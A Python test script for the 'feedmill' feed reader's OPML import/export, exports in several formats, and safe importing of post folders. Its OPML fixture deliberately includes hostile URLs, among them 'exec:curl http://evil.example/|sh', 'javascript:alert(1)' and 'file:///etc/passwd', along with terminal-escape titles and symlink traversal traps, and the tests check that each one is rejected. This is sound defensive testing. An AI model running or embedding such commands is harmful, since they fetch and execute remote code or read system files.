#!/usr/bin/env python3
"""What comes from elsewhere and what goes there: lists of subscriptions,
archives of other programs, and exports that another feedmill reads."""
import os
import sys
import xml.etree.ElementTree as ET

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from feedmill import *

ATOM = '{http://www.w3.org/2005/Atom}'
OPEN = {'allow-private-addresses': True}
ONE = ('http://a.example/1', 'One <b>', 'Sat, 22 Feb 2025 18:08:09 GMT',
       '<p>First & foremost</p>')
TWO = ('http://a.example/2?x=1&y=2', '第二篇文章', '', '<p>二</p>')
THREE = ('http://b.example/3', 'Three', 'Mon, 24 Feb 2025 18:08:09 GMT', 'z')

# ---------------------------------------------------------- subscriptions

OPML = '''<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0"><head><title>Mine</title></head><body>
<outline text="News"><outline text="World">
 <outline type="rss" text="The World &amp; us" xmlUrl="https://w.example/rss"
  htmlUrl="https://w.example/"/></outline>
 <outline type="rss" title="新闻: #1" text="x" xmlUrl="https://n.example/f?a=1&amp;b=2"
  category="/zh/大陆,daily"/></outline>
<outline text="The World &#38; us" xmlUrl="http://other.example/rss"/>
<outline text="again" xmlUrl="https://W.example/rss#top"/>
<outline text="there" xmlUrl="%s/a.xml"/>
<outline text="cmd" xmlUrl="exec:curl http://evil.example/|sh"/>
<outline text="filter" xmlUrl="filter:x:http://evil.example/"/>
<outline text="js" xmlUrl="javascript:alert(1)"/>
<outline text="file" xmlUrl="file:///etc/passwd"/>
<outline text="steers\x7f&#x9b;31m \n two lines: - ]" xmlUrl="http://odd.example/f"/>
<outline xmlUrl="http://untitled.example/feed"/>
<outline text="only a folder"/>
</body></opml>
'''
site = Site({'/a.xml': rss(ONE, TWO), '/b.xml': rss(THREE)})
mill = Mill(fetch=OPEN, feeds={'a': site.source('/a.xml')})
opml = write(os.path.join(mill.dir, 'mine.opml'), OPML % site.url)
conf = os.path.join(mill.dir, 'conf.d', '90-added.yaml')
before = read(mill.conf)
r = mill.run('import', opml)
same(r.status, 0, 'a list of subscriptions') or note(r)
lines = r.out.splitlines()
same([l.split('\t')[0] for l in lines[:-1]],
     ['the-world-us', 'n.example', 'the-world-us-2', 'steers-31m-two-lines',
      'untitled.example'], 'is added, by names that can be typed')
same(lines[-1], '%s: 5 feeds added to %s, 2 there already, 4 not usable' %
     (opml, conf), 'and counted')
feeds = {f['name']: f for f in json.loads(
    mill.run('feeds', '--format', 'json').out)}
same((feeds['the-world-us']['title'], feeds['the-world-us']['tags'],
      feeds['the-world-us']['url']),
     ('The World & us', ['News', 'World'], 'https://w.example/rss'),
     'titles stay, folders become tags')
same((feeds['n.example']['title'], feeds['n.example']['tags']),
     ('新闻: #1', ['News', 'zh/大陆', 'daily']), 'categories, too')
ok(not re.search('[\x00-\x1f\x7f-\x9f]', ''.join(
    f['title'] or '' for f in feeds.values())), 'no title steers a terminal')
same(read(mill.conf), before, 'what was written by hand stays')
after = read(conf)
r = mill.run('import', opml)
same((r.status, read(conf)), (0, after), 'again it changes nothing') or \
    note(r)
matches(r': 0 feeds added, 7 there already, 4 not usable$', r.out,
        'and says so')
ok(not os.path.exists(mill.path('feedmill.db')), 'no database is needed')
exported = mill.run('export', '--format', 'opml').out
same(exported, mill.run('feeds', '--format', 'opml').out,
     'export has them as OPML')
fresh = Mill(feeds={'z': {'url': 'http://z.example/'}})
r = fresh.run('import', write(os.path.join(fresh.dir, 'x'), exported))
same((r.status, {f['url'] for f in json.loads(
    fresh.run('feeds', '--format', 'json').out)}),
     (0, {f['url'] for f in feeds.values()} | {'http://z.example/'}),
     'which another feedmill imports, whatever the file is called') or note(r)
only = ET.fromstring(mill.run('export', '--format', 'opml', '--source',
                              'n.example').out)
same([o.get('xmlUrl') for o in only.iter('outline')],
     ['https://n.example/f?a=1&b=2'], 'or one of them')

r = mill.run('import', write(os.path.join(mill.dir, 'bad.opml'),
                             '<opml><body><outline text="x" xml'))
ok(r.status in (0, 1) and read(conf) == after, 'a broken list does no harm',
   r)
write(conf, after + b'archive:\n  more: {directory: x}\n')
r = mill.run('import', write(os.path.join(mill.dir, 'one.opml'),
             '<opml><body><outline xmlUrl="http://q.example/"/></body>'
             '</opml>'))
ok(r.status == 1 and 'nothing was changed' in r.err and
   b'q.example' not in read(conf), 'a file that ends in something else is '
   'left alone', r)

mill = Mill(fetch=OPEN, feeds={'a': site.source('/a.xml')})
daemon = mill.start()
r = mill.run('import', write(os.path.join(mill.dir, 'b.opml'),
             '<opml><body><outline text="bee" xmlUrl="%s/b.xml"/></body>'
             '</opml>' % site.url))
same(r.status, 0, 'beside a daemon') or note(r)
ok(daemon.seen('visit', source='bee', new='1'), 'which asks at once',
   daemon.log)
same(daemon.stop(), 0, 'the daemon ends')

# ------------------------------------------- a list that is kept elsewhere
mill = Mill(fetch=OPEN, feeds={'a': site.source('/a.xml')})
kept = write(mill.path('mine.opml'), OPML % site.url)
mill.sections['include-opml'] = ['mine.opml']
mill.set()
r = mill.run('check')
ok(r.status == 0 and ': ok, 6 sources' in r.out and
   'mine.opml: 4 that cannot be asked left out' in r.err,
   'include-opml: what can be asked is configured', r)
feeds = {f['name']: f for f in json.loads(
    mill.run('feeds', '--format', 'json').out)}
same((feeds['the-world-us']['tags'], feeds['the-world-us-2']['url'],
      feeds['a']['title']),
     (['News', 'World'], 'http://other.example/rss', None),
     'include-opml: with tags; what is written by hand stays as it is')
dump = mill.run('check', '--dump')
again = Mill()
write(again.conf, dump.out)
r = again.run('feeds', '--format', 'json')
same((r.status, {f['url'] for f in json.loads(r.out or '[]')}),
     (0, {f['url'] for f in feeds.values()}), 'include-opml: a dump of it '
     'loads to the same') or note(r)
write(kept, '<opml><body><outline text="bee" xmlUrl="%s/b.xml"/></body>'
      '</opml>' % site.url)
daemon = mill.start()
ok(daemon.seen('visit', source='bee'), 'include-opml: is asked', daemon.log)
site.documents['/c.xml'] = rss(ONE)
write(kept, '<opml><body><outline text="sea" xmlUrl="%s/c.xml"/></body>'
      '</opml>' % site.url)
r = mill.run('reload')
ok(r.status == 0 and daemon.seen('visit', source='sea'),
   'include-opml: a reload reads it again', daemon.log)
os.remove(kept)
r = mill.run('reload')
ok(r.status == 1 and 'mine.opml' in r.err, 'include-opml: one that is gone '
   'is a mistake', r)
same(daemon.stop(), 0, 'the daemon ends')
r = mill.run('check')
ok(r.status == 1 and re.search(r'feedmill\.yaml:\d+:\d+: error: .*mine\.opml',
                               r.err), 'with its place', r)

# ----------------------------------------------------------------- exports
mill = Mill(fetch=OPEN, feeds={'a': site.source('/a.xml'),
                               'bee': site.source('/b.xml')})

mill.round()
entries = mill.export()
same(len(entries), 3, 'three entries are known')
stamps = {(k, e['stamp']) for k, e in entries.items()}


def known(m):
    return {(k, e['stamp']) for k, e in m.export().items()}


def reads_back(*paths):
    other = Mill(feeds={'z': {'url': 'http://z.example/'}})
    r = other.run('import', *paths)
    if r.status != 0:
        note(r)
    return known(other)


for kind in ('atom', 'rss', 'json'):
    path = os.path.join(mill.dir, 'out.' + kind)
    r = mill.run('export', '--format', kind, '-o', path)
    same((r.status, r.out), (0, ''), 'export as ' + kind) or note(r)
    same(read(path).decode(), mill.run('export', '--format', kind).out,
         kind + ': the same on standard output, the same twice')
    same_set(reads_back(path), stamps, kind + ': another feedmill reads it')
    r = mill.run('parse', '--format', 'json', path)
    same((r.status, len(json.loads(r.out)['entries'])), (0, 3),
         kind + ': without complaint') or note(r)
feed = ET.fromstring(read(os.path.join(mill.dir, 'out.atom')))
same(feed.findtext(ATOM + 'updated'), max(
    e.findtext(ATOM + 'updated') for e in feed.iter(ATOM + 'entry')),
     'its date is the newest entry\'s')
html = mill.run('export', '--format', 'html')
ok(html.status == 0 and html.out.count('<article') == 3, 'as a page', html)

top = os.path.join(mill.dir, 'posts')
r = mill.run('export', '--format', 'md', '-o', top)
same((r.status, len(os.listdir(top))), (0, 3), 'as posts') or note(r)
same_set(reads_back(top), stamps, 'posts: another feedmill reads them')
same({read(os.path.join(top, n)) for n in os.listdir(top)},
     {read(mill.path('archive', n)) for n in mill.posts()},
     'they are those of the archive')

# More than a feed may have that is fetched: a file is read whole.
MANY = 12000
pages = {'/many%d.xml' % n: rss(*[
    ('http://many.example/%d/%d' % (n, i), 'Number %d' % i,
     'Sat, 22 Feb 2025 %02d:%02d:%02d GMT' % (i // 3600, i // 60 % 60, i % 60),
     'Text of %d &amp; more' % (n * 10000 + i)) for i in range(MANY // 3)])
    for n in range(3)}
crowd = Site(pages)
large = Mill(fetch=OPEN, feeds={'m%d' % n: dict(
    crowd.source('/many%d.xml' % n), **{'flood-limit': 0}) for n in range(3)})
large.round()


def all_of(m):
    """Key, stamp and text of each, whatever its source is called."""
    r = m.run('export', '--format', 'json')
    texts = {i['url']: i.get('content_html') for i in
             json.loads(r.out)['items']}
    return {(k, e['stamp'], texts.get(e['url'])) for k, e in
            m.export().items()}


written = all_of(large)
same((len(written), len({w[2] for w in written})), (MANY, MANY),
     'a large database')
for kind in ('atom', 'rss', 'json'):
    path = os.path.join(large.dir, 'out.' + kind)
    large.run('export', '--format', kind, '-o', path)
    other = Mill(feeds={'z': {'url': 'http://z.example/'}})
    r = other.run('import', path)
    same(r.status, 0, kind + ': a large export is imported') or note(r)
    ok(all_of(other) == written, kind + ': all of it, with every text')

r = mill.run('export', '--source', 'bee')
same([json.loads(l)['key'] for l in r.out.splitlines()], ['//b.example/3'],
     'only those of one source') or note(r)
r = mill.run('export', '--format', 'json', '--source', 'bee')
same([i['url'] for i in json.loads(r.out)['items']], ['http://b.example/3'],
     'in any format')
for since, count in (('2020-01-01', 3), ('2999-01-01', 0)):
    r = mill.run('export', '--since', since)
    same(len(r.out.splitlines()), count, 'announced since ' + since)
    r = mill.run('export', '--since', since, '--format', 'rss')
    same(r.out.count('<item>'), count, 'and as RSS')
for words in (['--since', 'yesterday-ish'], ['--format', 'pdf'],
              ['--format', 'md'], ['--format', 'opml', '--since', '2020']):
    r = mill.run('export', *words)
    ok(r.status == 2 and r.out == '', 'a mistake: ' + ' '.join(words), r)
r = mill.run('export', '--source', 'nobody')
ok(r.status == 1 and 'nobody' in r.err, 'no such source', r)
path = os.path.join(mill.dir, 'no', 'such', 'folder')
r = mill.run('export', '-o', path)
ok(r.status in (1, 74) and path in r.err, 'a file that cannot be', r)
if os.path.exists('/dev/full'):
    r = mill.run('export', '--format', 'atom', '-o', '/dev/full')
    ok(r.status == 74 and 'No space' in r.err, 'a disk that is full', r)

# ------------------------------------------------- a site of other programs

POST = '''---
layout: post
title: "%s"
date: 2021-06-01T00:00:00.000Z
author: me
from: https://old.example/%d
tags: [ old ]
categories: [ old ]
---
<!--16225056%05d-->
[%s](https://old.example/%d)
------

<div>
<p>text</p>
</div>
'''
top = folder()
for i in range(5):
    write('%s/_posts/2021-06-01-%d.md' % (top, i),
          POST % ('t%d' % i, i, i, 't%d' % i, i))
write(top + '/README.md', '# An archive\n')
write(top + '/_config.yml', 'title: x\n')
write(top + '/index.html', '---\nlayout: home\n---\n')
write(top + '/style.css', 'p {}\n')
write(top + '/lists/old.md', 'old\n------\n\n6-1 [t](/articles/1.md)\n')
write(top + '/_site/2021/t0.html', '<html>not this</html>')
write(top + '/.git/x.md', 'x')
write(top + '/articles/voa/1048575.md',
      '<!--1600000000000-->\n[v](https://voa.example/1)\n------\n\n<p>v</p>')
write(top + '/feed.xml', rss(ONE).decode())
other = Mill(feeds={'z': {'url': 'http://z.example/'}})
r = other.run('import', top)
same((r.status, len(known(other))), (0, 7), 'a whole site is imported') or \
    note(r)
matches(r'^7 files: 7 new entries, 0 revisions, 0 known; 0 not readable, '
        r'6 passed over$', r.out, 'what is no post is passed over')
r = other.run('import', top + '/README.md')
ok(r.status == 1 and 'neither a post nor a feed' in r.err,
   'but not if it is named', r)

# Two links to itself make a folder more of them than there are atoms, and
# one may lead to what is private.
maze = folder()
write(maze + '/a/post.md', POST % ('m', 99, 99, 'm', 99))
secret = write(folder() + '/secret.md', POST % ('s', 98, 98, 's', 98))
for to, name in (('..', 'x'), ('..', 'y'), (os.path.dirname(secret), 'z'),
                 (secret, 'z.md'), ('nowhere', 'gone.md')):
    os.symlink(to, maze + '/a/' + name)
os.mkfifo(maze + '/pipe.md')
os.makedirs(maze + '/d' * 40)
for m in (other, Mill(feeds={'z': {'url': 'http://z.example/'}})):
    daemon = m.start() if m is not other else None
    r = m.run('import', maze)
    same((r.status, r.out), (1, '1 file: 1 new entry, 0 revisions, 0 known; '
                             '2 not readable, 5 passed over\n'),
         'no link in a folder is followed') or note(r)
    ok('pipe.md: neither a file nor a folder' in r.err and
       'too deep' in r.err, 'what is neither, or too deep, is told', r)
    if daemon:
        daemon.stop()
os.symlink(maze + '/a', maze + '/way-in')
r = other.run('import', maze + '/way-in')
same((r.status, r.out[:7]), (0, '1 file:'), 'but one that is named') or note(r)
r = other.run('import', top, top + '/nothing')
ok(r.status == 1 and '7 known; 1 not readable' in r.out, 'what is not there '
   'is told', r)
done()
